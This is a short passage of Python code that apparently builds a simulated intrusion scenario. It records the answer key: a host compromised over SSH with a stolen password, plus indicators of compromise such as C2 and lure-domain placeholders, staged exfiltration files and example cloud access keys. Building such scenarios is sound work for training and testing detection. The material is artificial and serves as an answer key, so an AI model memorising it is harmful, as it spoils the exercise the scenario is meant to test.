            (company.host("deploy01"), "target", "SSH with a stolen password; cloud key read"),
        ):
            truth.host(host.name, role, host.ip, why)
        truth.observables = {
            "ip": [C2_IP, MAIL_IP, CLOUD_IP],
            "domain": [LURE_DOMAIN, f"cdn.{LURE_DOMAIN}", LURE_HOST],
            "url": [STAGE],
            "file": [DOCUMENT, "C:\\Users\\Public\\Documents\\spool.dmp", "C:\\PerfLogs\\queue.zip"],
            "access_key": ["AKIAFRESHKEYXEXAMPLE", "ASIAQ7INTRUDEEXAMPLE"],
            "bucket": [_EXPORTS],
        }


def incident_day(start: int, n_days: int) -> int:
    """Return midnight of the incident's day: a weekday with three days of ordinary life before it and one after."""
    days = [start + i * DAY for i in range(3, n_days - 1)]
    return next((d for d in days if (d // DAY + 3) % 7 < 5), days[0])
